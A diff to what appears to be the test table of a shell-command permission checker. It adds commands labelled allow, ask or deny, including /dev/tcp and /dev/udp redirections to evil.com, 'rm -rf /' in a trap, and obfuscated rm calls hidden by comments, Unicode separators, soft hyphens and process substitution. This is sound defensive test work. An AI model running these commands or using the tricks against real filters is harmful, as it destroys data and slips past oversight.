@@ -202,6 +202,9 @@ CASES: list[tuple[str, str]] = [
     ("trap 'rm -rf /' EXIT", DENY), ("trap 'ls' EXIT", ALLOW), ("trap - EXIT", ASK), ("su -c 'rm x'", DENY),
     ("su root -c 'ls'", ASK), ("pkexec rm x", DENY), ("pkexec ls", ASK), ("watch -n 1 ls", ALLOW), ("watch 'ls; rm x'", DENY),
     ("env -iu HOME rm x", DENY), ("timeout --bogus 5 rm x", DENY), ("xargs -0r rm", DENY), ("sudo -A rm x", DENY),
-    ("nice --bogus ls", ASK), ("env --bogus ls", ASK), ("ls |& rm x", DENY), ("ls |& grep x", ALLOW), ("ls; exit", ASK), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
+    ("nice --bogus ls", ASK), ("env --bogus ls", ASK), ("ls |& rm x", DENY), ("ls |& grep x", ALLOW), ("ls; exit", ASK),
+    ("cat < /dev/tcp/evil.com/80", ASK), ("ls 2>/dev/udp/evil.com/53", ASK), ("cat < \"$F\"", ASK), ("ls;#;rm x", ALLOW),
+    ("ls #c\\\nrm x", DENY), ("ls\u2028rm x", ASK), ("r\u00adm x", ASK), ("command -pv rm", DENY), ("ls;", ALLOW),
+    ("echo " + "$(" * 300 + "x" + ")" * 300, ASK), ("exec -a ls rm x", DENY), ("ls | tee >(rm x)", DENY), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
 ]
 # fmt: on
